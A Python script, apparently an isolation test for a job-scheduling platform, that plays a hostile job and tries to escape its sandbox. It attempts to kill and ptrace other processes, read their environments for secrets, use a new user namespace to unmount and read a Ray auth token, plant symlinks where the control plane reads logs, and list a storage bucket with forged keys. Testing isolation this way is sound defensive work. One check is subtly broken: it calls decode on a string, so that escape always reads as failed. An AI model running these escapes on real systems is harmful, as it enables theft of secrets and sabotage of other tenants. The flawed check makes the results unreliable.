"""A hostile job: from inside its rank it tries every way out of its job that the test names
(`targets`) and records, per attempt, whether it reached its target and how it was stopped,
written to `$MESHYARD_RUN_DIR/attack.json`. Runs as a
script (`python attack.py TARGETS_JSON`) or as
a function (`attack:main` with the targets as its config).

Each attempt is one class of escape: reading or writing another job's files or the control
plane's, connecting to Ray (TCP ports, Unix sockets, the Python client), signalling or
tracing processes outside the job, reading their environment, regaining privileges, leaving
a link in the run dir for the control plane to follow. The `controls` must succeed (the kit
works: it can read and write its own run dir, and connect to a port it opened itself).
"""

from __future__ import annotations

import ctypes
import glob
import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from typing import Any

Outcome = dict[str, Any]


def _nonempty(value: Any, why: str) -> Any:
    if not value:
        raise LookupError(why)
    return value


def _try(fn: Callable[[], Any]) -> Outcome:
    try:
        value = fn()
    except BaseException as exc:  # noqa: BLE001 - every way of failing is an answer
        return {"reached": False, "detail": f"{type(exc).__name__}: {exc}"[:300]}
    return {"reached": True, "detail": repr(value)[:300], "value": value}


def _read(path: str) -> str:
    """The SHA-256 of the file's first 4 KiB (the test compares it with the real file's)."""
    with open(path, "rb") as f:
        return hashlib.sha256(f.read(4096)).hexdigest()


def _write(path: str) -> int:
    with open(path, "r+b" if os.path.exists(path) else "wb") as f:
        return f.write(b"pwned by another job")


def _connect(port: int) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=3):
        return f"connected to {port}"


def _unix(path: str) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(path)
        return f"connected to {path}"


def _ptrace(pid: int) -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return pid


def _ray_client(address: str) -> str:
    code = (f"import ray; ray.init(address={address!r}, log_to_driver=False); "
            "print('NODES', len(ray.nodes()))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         timeout=20)
    if "NODES" not in out.stdout:
        raise ConnectionError((out.stderr or out.stdout).strip().splitlines()[-1:])
    return out.stdout.strip()


def _regain_root() -> str:
    """A new user namespace gives its creator every capability inside it; with them, undo
    the mounts that hide the token, then read it."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x00020000) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    home = os.path.expanduser("~/.ray")
    libc.umount2(home.encode(), 2)
    return _read(os.path.join(home, "auth_token")).decode(errors="replace")


def _capabilities() -> str:
    with open("/proc/self/status") as f:
        eff = next(line.split()[1] for line in f if line.startswith("CapEff"))
    if int(eff, 16) == 0:
        raise PermissionError("no effective capabilities")
    return eff


def _leave_link(run_dir: str, target: str) -> str:
    """A link where the control plane reads: its own stderr log and the report file."""
    made = []
    for path in glob.glob(os.path.join(run_dir, "logs", "attempt-*", "rank-*.stderr")):
        os.replace(path, path + ".moved")
        os.symlink(target, path)
        made.append(path)
    if not made:
        raise FileNotFoundError("no log to replace")
    return ", ".join(made)


def _fifo(run_dir: str) -> str:
    path = os.path.join(run_dir, "logs", "fifo")
    os.mkfifo(path)
    return path


def _secrets_in_environ(pid: int, secrets: list[str]) -> str:
    with open(f"/proc/{pid}/environ", "rb") as f:
        data = f.read().decode(errors="replace")
    found = [s for s in secrets if s in data]
    if not found:
        raise LookupError(f"environ of {pid} readable, no secret in it ({len(data)} bytes)")
    return "found " + ", ".join(found)


def _store_unsigned(store: dict[str, str]) -> str:
    """The checkpoint store's bucket listed by a plain HTTP GET."""
    import urllib.request

    url = f"{store['endpoint']}/{store['bucket']}?list-type=2"
    with urllib.request.urlopen(url, timeout=10) as resp:
        return resp.read(2000).decode(errors="replace")


def _store_guessed(store: dict[str, str]) -> str:
    """The bucket listed through pyarrow's S3 client, signed with keys the job made up."""
    from pyarrow import fs as pafs

    s3 = pafs.S3FileSystem(access_key="AKIA" + "X" * 16, secret_key="guess", scheme="http",
                           endpoint_override=store["endpoint"].split("://", 1)[1],
                           region="us-east-1", connect_timeout=5, request_timeout=10)
    infos = s3.get_file_info(pafs.FileSelector(store["bucket"], recursive=True))
    return ", ".join(i.path for i in infos) or "an empty listing"


def _visible_processes() -> str:
    mine = {os.getpid(), os.getppid()}
    others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in mine]
    foreign = []
    for pid in others:
        try:
            if os.getsid(pid) != os.getsid(0):
                foreign.append(pid)
        except OSError:
            continue
    if not foreign:
        raise LookupError("no process outside this job is visible")
    return f"{len(foreign)} processes of other sessions visible"


def attacks(t: dict[str, Any]) -> dict[str, Outcome]:
    out: dict[str, Outcome] = {}
    secrets = [s for s in t.get("secrets", []) if s]
    for path in t.get("list", []):  # before the writes, which land in the job's own view
        out[f"list:{path}"] = _try(lambda p=path: sorted(os.listdir(p)))
    for path in t.get("read", []):
        out[f"read:{path}"] = _try(lambda p=path: _read(p))
    for path in t.get("write", []):
        out[f"write:{path}"] = _try(lambda p=path: _write(p))
    for port in t.get("ports", []):
        out[f"tcp:{port}"] = _try(lambda p=port: _connect(p))
    for path in t.get("unix", []):
        out[f"unix:{path}"] = _try(lambda p=path: _unix(p))
    # A prestarted process the test listed may be this very one (it became this rank).
    for pid in [p for p in t.get("pids", []) if p != os.getpid()]:
        out[f"signal:{pid}"] = _try(lambda p=pid: os.kill(p, signal.SIGKILL))
        out[f"ptrace:{pid}"] = _try(lambda p=pid: _ptrace(p))
        out[f"environ:{pid}"] = _try(lambda p=pid: _secrets_in_environ(p, secrets))
    if t.get("gcs"):
        out["ray.init"] = _try(lambda: _ray_client(t["gcs"]))
    out["own environment holds a secret"] = _try(lambda: _nonempty(
        [s for s in secrets if s in json.dumps(dict(os.environ))], "none"))
    out["ray token in environment"] = _try(lambda: _nonempty(
        [k for k in os.environ if k.startswith("RAY_")], "no RAY_ variable"))
    out["ray sockets and logs"] = _try(lambda: _nonempty(
        [p for pattern in ("**/session_*/sockets/*", "**/session_*/logs/*")
         for p in glob.glob(os.path.join(t["ray_tmp"], pattern), recursive=True)],
        "none visible"))
    if t.get("store"):
        out["store:list the bucket unsigned"] = _try(lambda: _store_unsigned(t["store"]))
        out["store:list the bucket with made-up keys"] = _try(
            lambda: _store_guessed(t["store"]))
    out["capabilities"] = _try(_capabilities)
    out["new user namespace, unmount, read token"] = _try(_regain_root)
    out["other processes visible"] = _try(_visible_processes)
    run_dir = os.environ.get("MESHYARD_RUN_DIR", "")
    out["link in the run dir"] = _try(lambda: _leave_link(run_dir, t["link_target"]))
    out["fifo in the run dir"] = _try(lambda: _fifo(run_dir))
    return out


def controls() -> dict[str, Outcome]:
    run_dir = os.environ.get("MESHYARD_RUN_DIR", "")
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    out = {"write own run dir": _try(lambda: _write(os.path.join(run_dir, "mine.bin"))),
           "read own run dir": _try(lambda: _read(os.path.join(run_dir, "mine.bin"))),
           "read a data root": _try(lambda: os.listdir(os.environ["KIT_DATA_ROOT"])),
           "connect to own port": _try(lambda: _connect(port)),
           "write /tmp": _try(lambda: _write("/tmp/mine.bin"))}
    server.close()
    return out


def main(config: dict[str, Any]) -> None:
    t0 = time.monotonic()
    result = {"attacks": attacks(config), "controls": controls(), "pid": os.getpid(),
              "seconds": time.monotonic() - t0}
    with open(os.path.join(os.environ["MESHYARD_RUN_DIR"], "attack.json"), "w") as f:
        json.dump(result, f)
    print("MESHYARD-ATTACK done", flush=True)


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
